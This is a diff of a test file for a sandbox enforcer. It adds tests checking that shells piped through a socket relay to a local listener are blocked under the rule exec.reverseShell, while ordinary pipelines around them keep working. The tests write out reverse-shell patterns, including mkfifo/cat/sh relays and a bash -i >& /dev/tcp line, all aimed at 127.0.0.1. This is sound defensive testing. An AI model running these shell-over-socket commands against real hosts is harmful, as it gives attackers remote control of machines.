@@ -4,7 +4,7 @@
 // next to a legitimate neighbour that still works. Only 127.0.0.1 and ::1 are used.
 
 import { spawn, spawnSync } from "node:child_process";
-import { chmodSync, copyFileSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { chmodSync, copyFileSync, existsSync, mkdirSync, readFileSync, realpathSync, writeFileSync } from "node:fs";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { expectExit, validateEventsAfterEach } from "./helpers/assert.js";
 import { blockedExecs, describeExecs, lifecycle } from "./helpers/events.js";
@@ -42,15 +42,28 @@ beforeAll(async () => {
     [
       "import os, socket, sys, threading",
       "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))",
+      "s.settimeout(5)  # the attacker never hangs up: give up after 5 s without a byte",
       "def up():",
       "    while (d := os.read(0, 4096)):",
       "        s.sendall(d)",
       "threading.Thread(target=up, daemon=True).start()",
-      "while (d := s.recv(4096)):",
-      "    try:",
+      "try:",
+      "    while (d := s.recv(4096)):",
       "        os.write(1, d)",
-      "    except OSError:",
-      "        break",
+      "except OSError:",
+      "    pass",
+      "",
+    ].join("\n"),
+  );
+  // a program that connects, then sends what it reads on stdin (an upload: `... | aws s3 cp - s3://x`)
+  writeFileSync(
+    tmp.join("send.py"),
+    [
+      "import socket, sys",
+      "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))",
+      "data = sys.stdin.buffer.read()",
+      "s.sendall(data)",
+      "print('sent', data.decode().strip(), flush=True)",
       "",
     ].join("\n"),
   );
@@ -64,8 +77,10 @@ beforeAll(async () => {
 });
 afterAll(() => tmp?.remove());
 
-const bash = (mechanism: Mechanism, script: string, timeoutMs = 20_000): Promise<RunResult> =>
-  runEnforcer({ mechanism, policy: POLICY, command: ["bash", "-c", script], cwd: tmp.path, timeoutMs });
+const bash = (mechanism: Mechanism, script: string, timeoutMs = 20_000, policy = POLICY): Promise<RunResult> =>
+  runEnforcer({ mechanism, policy, command: ["bash", "-c", script], cwd: tmp.path, timeoutMs });
+/** The program sh is (dash on Debian, bash elsewhere): what /proc/PID/exe names. */
+const SH = realpathSync("/bin/sh").split("/").pop();
 
 function expectBlockedBy(r: RunResult, rule: string, count = 1): void {
   const blocked = blockedExecs(r.events);
@@ -142,6 +157,83 @@ os.system("bash -c \\"bash -i >& /dev/tcp/127.0.0.1/${p} 0>&1\\"")'`,
     expectExit(r, 0);
     expect(r.stdout.split("\n")).toEqual(["fifo-data", "script-got-line", "c-got-more", "piped-ok", ""]);
     expect(blockedExecs(r.events)).toEqual([]);
+  });
+
+  // A plain sh (no -i) reading commands from an anonymous pipe, its output piped into a relay that holds
+  // the connection (docs/security-review.md #9). Whichever starts first is judged when the other arrives:
+  // the shell's exec when the relay holds a connection, the relay's connect when the shell runs (connect
+  // is stopped only where the policy has network.connect rules).
+  const NET_POLICY = POLICY.replace("end\n", "network.connect.deny 192.0.2.1/32\nend\n");
+  const RELAY = `${PYTHON} relay.py`;
+  /** Pipelines beside the attack that must keep working, run at once; each writer is still alive when its reader connects. */
+  const neighbours = (port: number): string =>
+    [
+      `printf '/bin/echo piped-ok\\n' | sh`, // commands piped into a plain sh, output to the log
+      `sh -c 'sleep 1; /bin/echo from-c' | ${PYTHON} send.py ${port}`, // sh -c 'mysqldump' | aws s3 cp -
+      `/bin/echo line | sh reader.sh | ${PYTHON} send.py ${port}`, // a script's output uploaded
+      `(sleep 1; /bin/echo via-cat) | cat | ${PYTHON} send.py ${port}`, // a connecting program fed by cat
+      `printf '%s\\n' '{ sleep 1; /bin/echo in-script; } | ${PYTHON} send.py ${port}' | sh`, // commands piped into sh upload data
+    ]
+      .map((c) => `(${c}) &`)
+      .join(" ") + " wait; ";
+  const NEIGHBOUR_OUTPUT = ["piped-ok", "sent from-c", "sent in-script", "sent script-got-line", "sent via-cat"];
+
+  async function relayedShell(policy: string, attack: (port: number) => string): Promise<{ r: RunResult; a: TcpListener }> {
+    const a = await attacker("127.0.0.1");
+    const sink = await tcpListener("127.0.0.1");
+    try {
+      const r = await bash(mechanism, `${neighbours(sink.port)}rm -f f g; mkfifo f g; ${attack(a.port)}; rm -f f g; exit 0`, 30_000, policy);
+      expectExit(r, 0);
+      expect(r.stdout.split("\n").filter((l) => l !== "").sort(), r.stderr).toEqual(NEIGHBOUR_OUTPUT);
+      for (const sent of ["from-c", "script-got-line", "via-cat", "in-script"]) expect(sink.bytes()).toContain(sent);
+      expect(a.bytes()).not.toContain("SHELL-42");
+      return { r, a };
+    } finally {
+      await a.close();
+      await sink.close();
+    }
+  }
+
+  test.each([
+    ["no network.connect rules", POLICY],
+    ["network.connect rules", NET_POLICY],
+  ])("cat f | sh 2>&1 | RELAY > f, the relay connected before the shell started (%s): the shell is refused; its neighbours run", async (_name, policy) => {
+    const { r, a } = await relayedShell(policy, (p) => `cat f | (sleep 1; exec sh) 2>&1 | ${RELAY} ${p} > f`);
+    expectBlockedBy(r, "exec.reverseShell");
+    expect(blockedExecs(r.events).map((e) => e.exe.split("/").pop())).toEqual([SH]);
+    expect(a.connections()).toBe(1);
+  });
+
+  test.each([
+    ["cat f | sh 2>&1 | RELAY > f", (p: number) => `cat f | sh 2>&1 | (sleep 1; exec ${RELAY} ${p}) > f`],
+    ["cat f | busybox sh 2>&1 | cat | RELAY > f (through another process)", (p: number) => `cat f | busybox sh 2>&1 | cat | (sleep 1; exec ${RELAY} ${p}) > f`],
+    ["cat f | sh > g 2>&1 & RELAY < g > f (the output through a named FIFO)", (p: number) => `cat f | sh > g 2>&1 & (sleep 1; exec ${RELAY} ${p}) < g > f; wait`],
+    ["cat f | sh > g 2>&1 & cat g | RELAY > f (a FIFO opened by name on the way)", (p: number) => `cat f | sh > g 2>&1 & cat g | (sleep 1; exec ${RELAY} ${p}) > f; wait`],
+  ])("%s, the shell started first (network.connect rules): the relay's connect is refused; its neighbours run", async (_name, attack) => {
+    const { r, a } = await relayedShell(NET_POLICY, attack);
+    const refused = r.events.filter((e) => e.kind === "connect");
+    expect(refused, r.eventsText).toMatchObject([{ verdict: "blocked", rule: "exec.reverseShell", address: "127.0.0.1", port: a.port }]);
+    expect(blockedExecs(r.events), describeExecs(r.events)).toEqual([]);
+    expect(a.connections()).toBe(0);
+  });
+
+  test("cat f | sh 2>&1 | RELAY > f as typed (network.connect rules): refused at the exec or the connect", async () => {
+    const { r } = await relayedShell(NET_POLICY, (p) => `cat f | sh 2>&1 | ${RELAY} ${p} > f`);
+    const refused = r.events.flatMap((e) => ((e.kind === "exec" || e.kind === "connect") && e.verdict !== "allowed" ? [`${e.verdict} ${String(e.rule)}`] : []));
+    expect(refused.length, r.eventsText).toBeGreaterThanOrEqual(1);
+    expect(refused.every((e) => e === "blocked exec.reverseShell"), r.eventsText).toBe(true);
+  });
+
+  test("exec.reverseShell alert: the relay's connect is reported (verdict alert) and goes on", async () => {
+    const a = await attacker("127.0.0.1");
+    try {
+      const r = await bash(mechanism, `rm -f f; mkfifo f; cat f | sh 2>&1 | (sleep 1; exec ${RELAY} ${a.port}) > f; rm -f f; exit 0`, 30_000, NET_POLICY.replace("exec.reverseShell block", "exec.reverseShell alert"));
+      expectExit(r, 0);
+      expect(r.events.filter((e) => e.kind === "connect"), r.eventsText).toMatchObject([{ verdict: "alert", rule: "exec.reverseShell", port: a.port }]);
+      expect(a.bytes()).toContain("SHELL-42");
+    } finally {
+      await a.close();
+    }
   });
 
   test("a relay (socat, awk) holding the connection and starting the commands: refused", async () => {
